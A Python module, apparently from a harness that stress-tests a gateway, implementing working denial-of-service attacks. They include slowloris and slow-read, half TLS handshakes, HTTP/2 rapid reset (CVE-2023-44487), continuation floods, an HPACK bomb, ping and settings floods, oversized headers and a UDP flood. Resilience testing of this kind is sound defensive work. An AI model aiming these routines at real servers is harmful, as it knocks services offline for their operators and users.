"""What hostile peers do, again and again for a while: `python -m harness.attacks NAME ADDRESS PORT SECONDS`.

Each is a process of its own, so that what it costs to attack is not what it costs to be attacked. It ends by itself, and prints how often it
did what it does.
"""

import contextlib
import select
import socket
import ssl
import sys
import time

HOST = "www.example.com"
H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def connect(front, timeout=2.0):
    made = socket.create_connection(front, timeout=timeout)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return made


def tls(front, alpn=()):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(list(alpn))
    return context.wrap_socket(connect(front), server_hostname=HOST)


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def hpack(name, value):
    """A literal field that is not indexed (RFC 7541 6.2.2), with short strings."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path=b"/"):
    host = HOST.encode()
    return b"\x82\x87" + b"\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(host)]) + host


def http2(front):
    made = tls(front, ["h2"])
    made.sendall(H2_PREFACE + frame(SETTINGS))
    return made


def take(connection):
    """Whatever has come, without waiting."""
    with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, TimeoutError):
        connection.settimeout(0)
        while connection.recv(65536):
            pass
    connection.settimeout(2.0)


class Crowd:
    """Many connections that are made again when they end."""

    def __init__(self, size, make):
        self.size, self.make, self.open, self.made = size, make, [], 0

    def fill(self):
        while len(self.open) < self.size:
            try:
                self.open.append(self.make())
                self.made += 1
            except OSError:
                return

    def each(self, do):
        for one in list(self.open):
            try:
                do(one)
            except OSError:
                self.open.remove(one)
                one.close()

    def close(self):
        for one in self.open:
            one.close()


def crowd(size, make, do, pause=0.05):
    def attack(front, end):
        all_of_them = Crowd(size, lambda: make(front))
        count = 0
        while time.monotonic() < end:
            all_of_them.fill()
            all_of_them.each(do)
            count += len(all_of_them.open)
            time.sleep(pause)
        all_of_them.close()
        return count

    return attack


def again(do):
    """As fast as one goes after the other."""

    def attack(front, end):
        count = 0
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                do(front)
            count += 1
        return count

    return attack


def begun(text):
    def make(front):
        made = connect(front)
        made.sendall(text)
        return made

    return make


def half_a_handshake(front):
    """A ClientHello, cut in the middle."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname=HOST).do_handshake()
    hello = outgoing.read()
    return begun(hello[: len(hello) // 2])(front)


def slow_reader(front):
    """Asks for much and takes nothing."""
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    made.settimeout(2.0)
    made.connect(front)
    made.sendall(f"GET /much HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    return made


def one_frame_too_many(build):
    """Frames of one kind until the gateway says good-bye."""

    def attack(front):
        connection = http2(front)
        try:
            for _ in range(200):
                connection.sendall(build())
                take(connection)
        finally:
            connection.close()

    return again(attack)


def rapid_reset(front):
    """CVE-2023-44487."""
    connection = http2(front)
    try:
        stream = 1
        for _ in range(100):
            data = b""
            for _ in range(50):
                data += frame(HEADERS, END_HEADERS | END_STREAM, stream, request())
                data += frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
                stream += 2
            connection.sendall(data)
            take(connection)
    finally:
        connection.close()


def continuations(front):
    """CVE-2024-27316 and its kin: a head without an end."""
    connection = http2(front)
    try:
        connection.sendall(frame(HEADERS, 0, 1, request()))
        for number in range(5000):
            connection.sendall(frame(CONTINUATION, 0, 1, hpack(b"x-%d" % number, b"y" * 100) * 10))
            take(connection)
    finally:
        connection.close()


def hpack_bomb(front):
    """One large field in the table, named thousands of times."""
    connection = http2(front)
    try:
        value = b"v" * 3900
        length = b"\x7f" + bytes([(len(value) - 127) % 128 | 128, (len(value) - 127) // 128])
        stored = b"\x40" + b"\x01x" + length + value  # with indexing: 6.2.1
        stream = 1
        for _ in range(50):
            connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, request() + stored + b"\xbe" * 10_000))
            stream += 2
            take(connection)
    finally:
        connection.close()


def many_streams(front):
    """As many requests as a connection may have, which nobody reads the answers of."""
    connection = http2(front)
    try:
        connection.sendall(frame(SETTINGS, 0, 0, b"\x00\x04" + (0).to_bytes(4, "big")))  # a window of nothing
        data = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, request(b"/much")) for stream in range(1, 400, 2))
        connection.sendall(data)
        end = time.monotonic() + 0.5
        while time.monotonic() < end:
            select.select([connection], [], [], 0.1)
            take(connection)
    finally:
        connection.close()


def datagrams(front, end):
    """Each from another port: a session each."""
    count = 0
    sockets = []
    while time.monotonic() < end:
        made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        made.setblocking(False)
        with contextlib.suppress(OSError):
            made.sendto(b"x" * 20, front)
        sockets.append(made)
        if len(sockets) > 500:
            sockets.pop(0).close()
        count += 1
    for made in sockets:
        made.close()
    return count


def large_head(front):
    connection = connect(front)
    with connection:
        connection.sendall(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode() + b"".join(b"x-%d: %s\r\n" % (n, b"y" * 500) for n in range(300)))
        connection.recv(100)


def large_trailer(front):
    connection = connect(front)
    with connection:
        head = f"POST / HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n"
        connection.sendall(head.encode() + b"".join(b"x-%d: %s\r\n" % (n, b"y" * 500) for n in range(300)))
        connection.recv(100)


def expensive_pattern(front):
    """For a rule whose regular expression backtracks."""
    connection = connect(front)
    with connection:
        connection.sendall(f"GET /slow/{'a' * 200}! HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n".encode())
        connection.recv(100)


def come_and_go(front):
    connect(front).close()


def handshakes(front):
    tls(front).close()


ATTACKS = {
    "slowloris": ("http", crowd(300, begun(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode()), lambda one: one.send(b"x: y\r\n"))),
    "slow body": ("http", crowd(300, begun(f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000000\r\n\r\n".encode()), lambda one: one.send(b"x"))),
    "slow read": ("http", crowd(200, slow_reader, lambda one: None, 0.5)),
    "slow handshake": ("https", crowd(300, half_a_handshake, lambda one: None, 0.5)),
    "handshakes": ("https", again(handshakes)),
    "come and go": ("tcp", again(come_and_go)),
    "large heads": ("http", again(large_head)),
    "large trailers": ("http", again(large_trailer)),
    "expensive pattern": ("http", again(expensive_pattern)),
    "rapid reset": ("https", again(rapid_reset)),
    "settings flood": ("https", one_frame_too_many(lambda: frame(SETTINGS) * 100)),
    "ping flood": ("https", one_frame_too_many(lambda: frame(PING, 0, 0, b"12345678") * 100)),
    "continuation flood": ("https", again(continuations)),
    "hpack bomb": ("https", again(hpack_bomb)),
    "streams that are not read": ("https", again(many_streams)),
    "datagrams from everywhere": ("udp", datagrams),
}


def main():
    name, address, port, seconds = sys.argv[1:]
    _, attack = ATTACKS[name]
    print(attack((address, int(port)), time.monotonic() + float(seconds)))


if __name__ == "__main__":
    main()
